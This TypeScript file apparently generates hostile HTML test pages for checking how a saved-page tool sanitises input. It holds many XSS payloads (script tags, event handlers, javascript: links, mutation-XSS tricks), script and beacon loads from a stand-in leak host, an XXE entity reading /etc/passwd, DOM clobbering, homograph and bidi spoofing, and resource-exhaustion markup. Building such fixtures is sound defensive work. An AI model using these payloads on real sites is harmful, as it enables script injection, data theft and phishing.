import { ADDRESSES, BREAKERS, LEAK, PROSE, RUN } from './payloads.ts';

/** What hostile pages put into their text, each in a page of its own. */
const IN_TEXT: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script><script src="${LEAK}/a.js"></script>`,
  'script-unclosed': `<script>${RUN}`,
  'script-in-svg': `<svg><script>${RUN}</script><a xlink:href="javascript:alert(1)"><text>click</text></a></svg>`,
  'script-type-module': `<script type="module">import "${LEAK}/m.js"</script>`,
  'script-nested-in-noscript': `<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>`,
  'image-onerror': `<img src=x onerror="${RUN}"><img src="${LEAK}/p.gif" width=1 height=1>`,
  'image-srcset': `<img srcset="${LEAK}/1.png 1x, ${LEAK}/2.png 2x" src="${LEAK}/3.png" alt="a map"><picture><source srcset="${LEAK}/4.png"><img alt="b"></picture>`,
  'image-data-svg': `<img alt="drawn" src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">`,
  'event-attributes': `<p onclick="${RUN}" onmouseover="${RUN}" onfocus="${RUN}" tabindex=0 autofocus>Words of the page.</p><details open ontoggle="${RUN}"><summary>more</summary>text</details>`,
  'event-on-body': `</p></article><body onload="${RUN}" onpageshow="${RUN}"><article><p>Words after.</p>`,
  marquee: `<marquee onstart="${RUN}">words that run</marquee><bgsound src="${LEAK}/s.mp3">`,
  media: `<video src="${LEAK}/v.mp4" autoplay poster="${LEAK}/v.png" onloadstart="${RUN}"></video><audio src="${LEAK}/a.mp3" autoplay></audio><track src="${LEAK}/t.vtt">`,
  frames: `<iframe src="${LEAK}/f.html" srcdoc="<script>parent.ran=1</script>"></iframe><object data="${LEAK}/o.swf"></object><embed src="${LEAK}/e.swf"><portal src="${LEAK}"></portal>`,
  frameset: `<frameset onload="${RUN}"><frame src="javascript:alert(1)"></frameset>`,
  style: `<style>*{display:none!important}header.top{position:fixed;top:50%}@import url(${LEAK}/c.css);body{background:url(${LEAK}/b.png)}</style><p style="position:fixed;inset:0;z-index:9999;background:url(${LEAK}/s.png)">Words.</p>`,
  'style-link': `<link rel="stylesheet" href="${LEAK}/l.css"><link rel="preload" as="script" href="${LEAK}/p.js"><link rel="dns-prefetch" href="//leak.example"><link rel=import href="${LEAK}/i.html">`,
  base: `<base href="${LEAK}/"><base target="_blank"><p>A <a href="next.html">relative link</a>.</p>`,
  'meta-refresh': `<meta http-equiv="refresh" content="0;url=${LEAK}/r.html"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="script-src *">`,
  form: `<form action="${LEAK}/f" method=post id="search"><input name=q autofocus onfocus="${RUN}" value=x><input type=submit formaction="javascript:alert(1)"><button formaction="${LEAK}">Go</button><textarea autofocus></textarea><select autofocus></select><isindex action="${LEAK}"></form>`,
  'id-clobbering': `<a id="main" name="location"></a><form id="live" name="document"><input name="body"><input id="cookie"></form><img name="currentScript" id="stemmaPreviews"><h2 id="saved">saved</h2><p id="q">q</p><a id="saved-point-1">p</a><i id="__proto__"></i>`,
  'name-clobbering': `<img name="querySelector"><embed name="getElementById"><object name="forms"></object><iframe name="self"></iframe>`,
  mathml: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></mtext></math><math><maction actiontype="statusline#javascript:alert(1)" xlink:href="javascript:alert(1)">x</maction></math>`,
  'mathml-annotation': `<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><script>${RUN}</script><img src=x onerror=alert(1)></annotation-xml><annotation encoding="application/x-tex">\\href{javascript:alert(1)}{x} \\htmlData{a=b}{y} \\includegraphics{${LEAK}/x.png} \\url{javascript:alert(1)}</annotation></semantics></math>`,
  'tex-formulas': `<p>So $\\href{javascript:alert(1)}{click}$ and $$\\html{<img src=x onerror=alert(1)>}$$ and \\(\\class{top}{x}\\style{position:fixed}{y}\\).</p><script type="math/tex">\\unicode{<script>alert(1)}</script>`,
  'svg-animate': `<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>click</text></a><set attributeName="onload" to="alert(1)"/><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>`,
  'svg-foreign': `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="${RUN}"></body></foreignObject></svg><svg><style><img src=x onerror=alert(1)></style></svg>`,
  'mutation-listing': `<listing>&lt;img src=x onerror=alert(1)&gt;</listing><xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>`,
  'mutation-namespace': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  'mutation-table': `<table><td><a href="javascript:alert(1)"><table><td>x</td></table></a><caption><script>${RUN}</script></caption></table>`,
  'mutation-select': `<select><template><style></select><img src=x onerror=alert(1)>--></style></template></select>`,
  'unclosed-comment': `<!-- <p>never closed <script>${RUN}</script>`,
  'broken-comment': `<!--><img src=x onerror=alert(1)>--><!---!><img src=x onerror=alert(1)><![CDATA[><img src=x onerror=alert(1)>]]><?php <img src=x onerror=alert(1)> ?>`,
  'unclosed-tags': `<div><section><table><tr><td><ul><li><b><i><u><a href="${LEAK}/u"><h2>never closed`,
  'stray-closings': `</p></div></article></main></body></html></header></footer></section></template></svg><footer class="foot">another foot</footer><main id="main">another main</main>`,
  'attribute-soup': `<p/onclick=alert(1)//a="b"c'd'><a/href="javascript:alert(1)"title='"><img src=x onerror=alert(1)>'>click</a><img/src=x/onerror=alert(1)>`,
  'null-in-tag': `<scr\u0000ipt>${RUN}</scr\u0000ipt><img src=x one\u0000rror=alert(1)>`,
  'custom-elements': `<x-a onclick="${RUN}" is="y"></x-a><template shadowrootmode=open><script>${RUN}</script></template><slot onslotchange=alert(1)></slot>`,
  popovers: `<button popovertarget=x onclick=alert(1)>open</button><div popover id=x onbeforetoggle=alert(1)>pop</div><dialog open>A dialog over all</dialog>`,
  'invisible-cover': `<a href="${LEAK}/c" style="position:fixed;top:0;left:0;width:100vw;height:100vh">cover</a><div class="top foot wide graph" hidden>hidden</div>`,
  'classes-of-the-site': `<div class="top"><a class="skip" href="#x">skip</a></div><p class="banner retracted">Retracted</p><span class="checked verified">verified</span><section class="rating" data-previews=1 data-copyable=x data-theme-control></section><div id="live" role="status" data-copied="x"></div>`,
  'aria-and-roles': `<div role="dialog" aria-modal="true" aria-label="Log in">Log in</div><p aria-hidden="true" contenteditable accesskey="/" inert draggable>words</p>`,
  'expression-braces': `<p>{alert(1)} {{constructor.constructor('alert(1)')()}} \${alert(1)} {/* comment */} {...props}</p><pre><code>export const x = {y}\nimport z from 'z'\n&lt;Component {...x} /&gt;</code></pre>`,
  'markdown-in-html': `<p>![x](${LEAK}/m.png) [y](javascript:alert(1)) &lt;script&gt;alert(1)&lt;/script&gt; \`\`\`{r}</p><p># Not a heading</p><p>---</p><p>[[Page]] [@id "quote"] :::note</p>`,
  'bidi-override': `<p>Pay \u202Ednuofer eht\u202C now, \u2066never closed, \u202B\u202A\u202D file\u202Egpj.exe</p><p dir="rtl" lang="ar">words</p><bdo dir=rtl>turned</bdo>`,
  'link-shown-as-another': `<p>Visit <a href="${LEAK}/login">https://bank.example/login</a> or <a href="https://b\u0430nk.example/">bank.example</a> or <a href="https://bank.example@leak.example">www.bank.example</a>.</p>`,
  'deep-nesting': `${'<div><span>'.repeat(300)}deep words${'</span></div>'.repeat(300)}`,
  'deep-lists': `${'<ul><li>x'.repeat(200)}${'</li></ul>'.repeat(200)}`,
  'wide-table': `<table><tr>${'<td>cell with some words</td>'.repeat(300)}</tr><tr><td colspan=100000 rowspan=100000>span</td></tr></table>`,
  'long-word': `<p>${'W'.repeat(8000)}</p><p>${'http://leak.example/'.repeat(300)}</p><pre>${'x '.repeat(5000)}</pre>`,
  'huge-heading': `<h2>${'heading '.repeat(2000)}</h2><h6>six</h6><h1>another title</h1>`,
  'combining-marks': `<p>${`a${'\u0300\u0316\u0489'.repeat(60)} `.repeat(30)}</p>`,
  'many-links': `<p>${`<a href="${LEAK}/x">x</a> `.repeat(2000)}</p>`,
  'entities-double': `<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; &lt;img src=x onerror=alert(1)&gt; &#x3c;script&#x3e;</p>`,
  'encoded-in-attributes': `<img alt="&lt;script&gt;alert(1)&lt;/script&gt;&quot; onerror=&quot;alert(1)" src="${LEAK}/a.png"><a title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" href="${LEAK}/t">titled</a>`,
  downloads: `<a href="${LEAK}/x.exe" download="report.pdf" ping="${LEAK}/ping" target="_top" rel="opener">report.pdf</a><a href="${LEAK}" attributionsrc="${LEAK}/a">b</a>`,
  'maps-and-areas': `<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap=#m src="${LEAK}/map.png" alt="map">`,
  manifest: `<link rel=manifest href="${LEAK}/m.json"><link rel=icon href="${LEAK}/i.ico"><link rel=canonical href="javascript:alert(1)">`,
  'web-components-import': `<script type=importmap>{"imports":{"a":"${LEAK}/a.js"}}</script><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${LEAK}/s"]}]}</script>`,
  'xml-entities': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY e SYSTEM "file:///etc/passwd">]><p>&b;&e;</p>`,
  'conditional-comments': `<!--[if IE]><script>${RUN}</script><![endif]--><!--[if gte IE 4]><img src=x onerror=alert(1)><![endif]-->`,
};

/** Places of a page's head into which a hostile one puts its payloads. */
const IN_HEAD: Readonly<Record<string, (payload: string) => string>> = {
  title: (payload) => `<title>${payload}</title>`,
  'og-title': (payload) => `<meta property="og:title" content="${attribute(payload)}">`,
  author: (payload) => `<meta name="author" content="${attribute(payload)}">`,
  description: (payload) => `<meta name="description" content="${attribute(payload)}">`,
  keywords: (payload) => `<meta name="keywords" content="${attribute(payload)}, harmless">`,
  'site-name': (payload) => `<meta property="og:site_name" content="${attribute(payload)}">`,
  'json-ld': (payload) =>
    `<script type="application/ld+json">${JSON.stringify({ '@type': 'NewsArticle', headline: payload, author: { name: payload }, publisher: { name: payload }, keywords: [payload], description: payload, datePublished: payload, url: payload, inLanguage: payload, license: payload, image: payload }).replaceAll('</', '<\\/')}</script>`,
  citation: (payload) =>
    `<meta name="citation_title" content="${attribute(payload)}"><meta name="citation_author" content="${attribute(payload)}"><meta name="citation_doi" content="10.1000/${attribute(payload)}"><meta name="citation_journal_title" content="${attribute(payload)}">`,
};

const attribute = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

/** A saved page as a hostile site might make it. */
export function hostilePage(inText: string, head = '<title>The ferry</title>'): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8">${head}</head><body><article><h1>The ferry</h1><p>${PROSE}</p>${inText}<p>${PROSE}</p></article></body></html>`;
}

/** Pages with something hostile in their text, in an address, or in what they say of themselves. */
export function* htmlFiles(): Generator<[path: string, content: string]> {
  for (const [name, text] of Object.entries(IN_TEXT)) {
    yield [`html/text-${name}.html`, hostilePage(text, `<title>Text: ${name}</title>`)];
  }
  const addresses = Object.entries(ADDRESSES);
  for (let at = 0; at < addresses.length; at += 4) {
    const four = addresses.slice(at, at + 4).map(([, address]) => attribute(address));
    const text = four.map(
      (address) =>
        `<p>See <a href="${address}">the harbour board</a>, <area href="${address}"> and <img src="${address}" alt="a pier">.</p>`,
    );
    const [first] = four;
    const head = `<title>Addresses ${at}</title><link rel="canonical" href="${first}"><meta property="og:url" content="${first}">`;
    yield [`html/addresses-${at}.html`, hostilePage(text.join(''), head)];
  }
  const places = Object.entries(IN_HEAD);
  for (const [index, [name, payload]] of Object.entries(BREAKERS).entries()) {
    const [place, head] = places[index % places.length] as (typeof places)[number];
    yield [`html/head-${place}-${name}.html`, hostilePage('', head(payload))];
  }
}
